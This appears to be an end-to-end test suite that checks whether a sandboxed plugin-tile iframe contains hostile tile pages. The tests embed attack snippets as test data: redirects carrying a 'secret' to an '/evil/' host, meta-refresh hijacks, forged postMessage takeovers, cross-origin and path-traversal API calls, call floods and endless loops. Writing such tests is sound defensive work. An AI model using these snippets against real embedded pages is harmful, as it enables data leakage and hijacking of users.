import type {Page} from 'playwright-core';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {ownDemo} from '../../../e2e/demo.js';
import {integrityOf} from '../src/bundle/index.js';
import {newPage} from '../../../e2e/visitor.js';
import {leaving, outward, reaching, script} from './hostile-tile.js';
import {openShop, type PluginShop} from './plugin-shop.js';
import {offerText, openTilePage} from './tile-page.js';

const demo = ownDemo();
let shop: PluginShop;
beforeAll(async () => {
  shop = await openShop();
});
afterAll(() => shop.close());

const hits = () => shop.asked.filter((path) => path.startsWith('/evil/'));

/** A tile whose page is this; nobody packs such a one by accident. */
const packed = (view: string) =>
  JSON.stringify({
    townhallTile: 1,
    name: 'evil',
    title: 'Evil',
    pages: {view: `<!doctype html>${view}`},
    libraries: [],
    assets: {},
  });

let count = 0;
async function open(view: string, attributes = '', integrity?: string) {
  const text = packed(view);
  const name = `evil-tile-${++count}`;
  const tag = offerText(
    shop,
    name,
    text,
    integrity ?? (await integrityOf(text)),
  );
  return openTilePage(
    demo,
    shop,
    `<townhall-tile ${tag} ${attributes}></townhall-tile>`,
    {person: 'robin'},
  );
}

/** The same page in a frame with the same sandbox, but no guard around it. */
async function openBare(view: string, sandbox = 'allow-scripts') {
  const {site} = demo.townhall;
  const {page, context, leave} = await newPage(demo.browser);
  await context.grantPermissions(['local-network-access'], {origin: site});
  const address = `${site}/bare`;
  await page.route(address, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: '<!doctype html><title>Bare</title>',
    }),
  );
  await page.goto(address);
  await page.evaluate(
    ([html, sandbox]) => {
      const frame = document.createElement('iframe');
      if (sandbox) frame.setAttribute('sandbox', sandbox);
      frame.srcdoc = html;
      document.body.append(frame);
    },
    [`<!doctype html>${view}`, sandbox] as const,
  );
  return {page, leave};
}

const tried = (page: Page) =>
  page
    .frameLocator('townhall-tile iframe')
    .frameLocator('iframe')
    .getByText('tried')
    .waitFor();

/** Waits without a look at the page: to the browser, a look is a press. */
const untouched = (page: Page) => page.waitForTimeout(2_500);

describe('the page of a tile', () => {
  it('sends nothing to anybody', async () => {
    const before = hits().length;
    const {page, leave} = await open(leaving(shop.origin));
    await tried(page);
    await page.waitForTimeout(300);
    expect(hits().slice(before)).toEqual([]);
    await leave();
  });

  it('would send it without its walls (control)', async () => {
    const before = hits().length;
    const {leave} = await openBare(leaving(shop.origin));
    await expect
      .poll(() => new Set(hits().slice(before)).size)
      .toBeGreaterThan(10);
    await leave();
  });

  it.each([
    [
      'goes to another page',
      (evil: string) => `location.href = '${evil}/evil/self?secret'`,
    ],
    [
      'is led there by its head',
      (evil: string) =>
        `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${evil}/evil/meta">')`,
    ],
  ])('%s in vain', async (_, attack) => {
    const view = script(`quiet(function () { ${attack(shop.origin)} })`);
    const before = hits().length;
    const {page, leave} = await open(view);
    await page.locator('townhall-tile iframe').waitFor();
    await page.waitForTimeout(800);
    expect(hits().slice(before)).toEqual([]);
    await leave();
    const bare = await openBare(view);
    await expect.poll(() => hits().length).toBeGreaterThan(before);
    await bare.leave();
  });

  it('moves nobody, opens nothing and sends no form', async () => {
    const before = hits().length;
    const {page, leave} = await open(outward(shop.origin));
    await untouched(page);
    expect(hits().slice(before)).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/made-for-this');
    expect(page.context().pages()).toHaveLength(1);
    await leave();
  });

  it('would move them without its sandbox (control)', async () => {
    const before = hits().length;
    const {leave} = await openBare(outward(shop.origin), '');
    await expect.poll(() => hits().length).toBeGreaterThan(before);
    await leave();
  });

  it('reads nothing of the page, no cookie and no storage', async () => {
    const {page, inside, leave} = await open(reaching);
    await tried(page);
    expect(await inside.locator('#said').innerText()).toBe(
      Array.from({length: 5}, () => 'SecurityError').join(' ') + ' tried',
    );
    await leave();
  });

  it('would read it without its sandbox (control)', async () => {
    const {page, leave} = await openBare(reaching, '');
    await expect
      .poll(() => page.frameLocator('iframe').locator('#said').innerText())
      .toContain('Bare Bare cookie: object');
    await leave();
  });

  it('is not heard past its line, and speaks for nobody', async () => {
    const {page, leave} = await open(
      script(`
      quiet(function () { top.postMessage({townhall: 'tile-ready'}, '*'); });
      quiet(function () { top.postMessage({townhall: 'tile-open'}, '*'); });
      quiet(function () { parent.postMessage('line', '*'); });
      quiet(function () { parent.postMessage({townhall: 'tile', html: 'Taken over'}, '*', [new MessageChannel().port1]); });`),
    );
    await tried(page);
    expect(await page.frames().length).toBe(3);
    await leave();
  });

  const calls = (code: string) =>
    script(
      `jive.tile.onOpen(function (config, options, other, container) { ${code} });`,
    );

  it.each([
    ['http://elsewhere.example/api/core/v3/contents'],
    ['//elsewhere.example/contents'],
    ['/../../v1/session'],
    ['/webhooks'],
  ])('reaches nothing at %s', async (href) => {
    const {inside, leave} = await open(
      calls(
        `osapi.http.get({href: '${href}'}).execute(function (res) { say(res.error ? res.error.code : 'came'); });`,
      ),
    );
    await inside.getByText('forbidden').waitFor();
    await leave();
  });

  it('writes nothing without a press, whatever it may', async () => {
    const {page, inside, leave} = await open(
      calls(
        `osapi.jive.corev3.discussions.create({subject: 'Nobody asked for this one', parent: '/places/help'}).execute(function (res) { say(res.error.message); });`,
      ),
      'allow="ask vote suggest viewer"',
    );
    await untouched(page);
    await inside.getByText('only when somebody has just pressed').waitFor();
    await leave();
  });

  it('learns nobody’s name without leave', async () => {
    const code = `osapi.jive.corev3.people.getViewer().execute(function (who) { say('[' + who.displayName + ']'); });`;
    const without = await open(calls(code));
    await without.inside.getByText('[Guest]').waitFor();
    await without.leave();
    const allowed = await open(calls(code), 'allow="viewer"');
    await allowed.inside.getByText('[Robin').waitFor();
    await allowed.leave();
  });

  it.each([
    [
      'a flood of calls',
      `for (var i = 0; i < 5000; i++) jive.tile.updateExtendedProps({i: i});`,
    ],
    [
      'a giant message',
      `jive.tile.updateExtendedProps({all: new Array(400000).join('x')});`,
    ],
  ])('is stopped for %s', async (_, code) => {
    const {page, leave} = await open(calls(code));
    await page.getByText('did what no tile may').waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await page.getByRole('button', {name: 'Start it again'}).waitFor();
    await leave();
  });

  it.each([
    [
      'ten calls',
      `for (var i = 0; i < 10; i++) jive.tile.updateExtendedProps({i: i});`,
    ],
    [
      'a long message',
      `jive.tile.updateExtendedProps({all: new Array(20000).join('x')});`,
    ],
  ])('is not stopped for %s (control)', async (_, code) => {
    const {page, inside, leave} = await open(
      calls(`${code} setTimeout(function () { say('goes on'); }, 1000);`),
    );
    await inside.getByText('goes on').waitFor();
    expect(await page.locator('townhall-tile iframe').count()).toBe(1);
    await leave();
  });

  it('says nothing more after it was closed', async () => {
    const {page, leave} = await open(
      calls(`jive.tile.close({a: 1}); setTimeout(function () {
        jive.tile.close({b: 2}); jive.tile.updateExtendedProps({late: 1});
      }, 500);`),
      'page="view"',
    );
    const said = await page.evaluate(async () => {
      let count = 0;
      addEventListener('townhall-tile-props', () => count++);
      await new Promise((resolve) => setTimeout(resolve, 2_500));
      return count;
    });
    expect(said).toBe(0);
    await leave();
  });

  it('cannot grow for ever', async () => {
    const {page, leave} = await open(
      calls(
        `var high = 100; setInterval(function () { gadgets.window.adjustHeight(high += 40); }, 20);`,
      ),
    );
    const height = () =>
      page
        .locator('townhall-tile iframe')
        .evaluate((frame) => frame.getBoundingClientRect().height);
    await expect.poll(height).toBeGreaterThan(150);
    await page.waitForTimeout(2_000);
    expect(await height()).toBeLessThanOrEqual(4_000);
    await leave();
  });

  it('is not run where it is another file than expected', async () => {
    const other = await integrityOf('another file');
    const {page, leave} = await open('Another', '', other);
    await page.getByText('not the file that this page expects').waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await leave();
  });

  it('that never ends is stopped, and the page goes on meanwhile', async () => {
    const {page, leave} = await open(
      calls(`setTimeout(function () { for (;;) {} }, 200);`),
    );
    await page.locator('townhall-tile iframe').waitFor();
    // A page that waited for the tile would not get to the next beat.
    await page.evaluate(() => {
      setInterval(() => {
        const {dataset} = document.body;
        dataset['beats'] = String(Number(dataset['beats'] ?? 0) + 1);
      }, 10);
    });
    const beats = () =>
      page.evaluate(() => Number(document.body.dataset['beats'] ?? 0));
    await expect.poll(beats).toBeGreaterThan(10);
    await page.getByText('does not answer').waitFor();
    const before = await beats();
    await expect.poll(beats).toBeGreaterThan(before);
    await leave();
  });
});
